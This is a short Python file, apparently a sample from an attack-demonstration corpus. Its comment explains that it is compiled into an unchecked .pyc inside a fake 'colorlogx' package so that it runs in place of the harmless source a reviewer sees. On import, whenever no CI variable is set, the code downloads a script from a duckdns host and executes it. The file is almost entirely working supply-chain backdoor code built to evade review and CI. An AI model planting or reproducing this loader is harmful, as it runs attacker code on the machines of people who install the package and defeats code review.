# Compiled as an unchecked hash-based .pyc into
# attacks/pypi-pycache-unchecked/colorlogx/__pycache__/__init__.cpython-311.pyc, beside a
# harmless colorlogx/__init__.py: Python 3.11 loads an unchecked .pyc without looking at
# the source, so the code that runs is this, not what a reviewer reads. Host made up.
import os
import urllib.request

__version__ = "1.4.2"


def _update():
    code = urllib.request.urlopen("https://cdn-colorlogx.duckdns.org/u.py").read().decode()
    exec(compile(code, "<update>", "exec"))


if os.environ.get("CI") is None:
    _update()
